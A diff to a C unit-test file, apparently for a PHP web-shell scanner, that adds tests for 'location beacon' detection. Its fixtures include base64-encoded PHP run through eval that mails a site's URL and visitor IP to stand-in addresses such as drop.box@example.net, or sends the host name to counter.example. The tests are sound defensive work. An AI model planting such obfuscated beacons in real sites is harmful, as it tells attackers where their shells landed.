@@ -60,11 +60,51 @@ static void test_look_alikes(void **state)
 	quiet("<?php $k = md5(DB_PASSWORD . 'salt'); wp_remote_get('https://cdn.example/v?k=1');");
 }
 
+/* The site's own name mailed from code the file hides, or to a mailbox it
+ * hides: the shell telling its author where it landed. In the clear, the
+ * same mail is a broken-link notifier's. */
+static void test_location_beacons(void **state)
+{
+	(void)state;
+	expect("<?php "
+	       "eval(base64_decode('"
+	       "JHUgPSAnaHR0cDovLycgLiAkX1NFUlZFUlsnSFRUUF9IT1NUJ10gLiAkX1NFUlZFUlsnUkVRVUVTVF9VUkk"
+	       "nXTsgQG1haWwoJ2Ryb3AuYm94QGV4YW1wbGUubmV0JywgJ3VwOiAnIC4gJHUsICR1IC4gJyBmcm9tICcgLi"
+	       "AkX1NFUlZFUlsnUkVNT1RFX0FERFInXSk7'));",
+	       "php.location_beacon", HS_SEV_HIGH);
+	expect("<?php $to = base64_decode('b3BzLmRlc2tAZXhhbXBsZS5vcmc=');\n"
+	       "mail($to, 'new host', $_SERVER['HTTP_HOST'] . $_SERVER['SCRIPT_NAME']);",
+	       "php.location_beacon", HS_SEV_HIGH);
+	/* the same over HTTP from a decoded layer: medium (an encoded licence
+	 * check sends its domain too) */
+	expect("<?php "
+	       "eval(base64_decode('"
+	       "JGggPSAkX1NFUlZFUlsnU0VSVkVSX05BTUUnXTsgaWYgKCFpc3NldCgkX0NPT0tJRVsnc2VlbiddKSkgeyB"
+	       "maWxlX2dldF9jb250ZW50cygnaHR0cDovL2NvdW50ZXIuZXhhbXBsZS9uLnBocD9zPScgLiB1cmxlbmNvZG"
+	       "UoJGggLiAkX1NFUlZFUlsnUEhQX1NFTEYnXSkpOyB9'));",
+	       "php.location_beacon", HS_SEV_MEDIUM);
+	assert_true(find("php.location_beacon")->sev < HS_SEV_HIGH);
+}
+
+static void test_location_look_alikes(void **state)
+{
+	(void)state;
+	/* a 404 notifier and a licence check, in the clear */
+	quiet("<?php if (is_404()) { mail(get_option('admin_email'), 'Broken link', 'http://' . "
+	      "$_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']); }");
+	quiet("<?php mail('webmaster@example.com', 'Site error on ' . $_SERVER['SERVER_NAME'], "
+	      "'See the log');");
+	quiet("<?php $r = wp_remote_post('https://license.example.com/check', array('body' => "
+	      "array('domain' => $_SERVER['HTTP_HOST'], 'key' => get_option('lk'))));");
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 	    cmocka_unit_test(test_beacons),
 	    cmocka_unit_test(test_look_alikes),
+	    cmocka_unit_test(test_location_beacons),
+	    cmocka_unit_test(test_location_look_alikes),
 	};
 	int rc = cmocka_run_group_tests(tests, NULL, NULL);
 	php_result_free(&res);
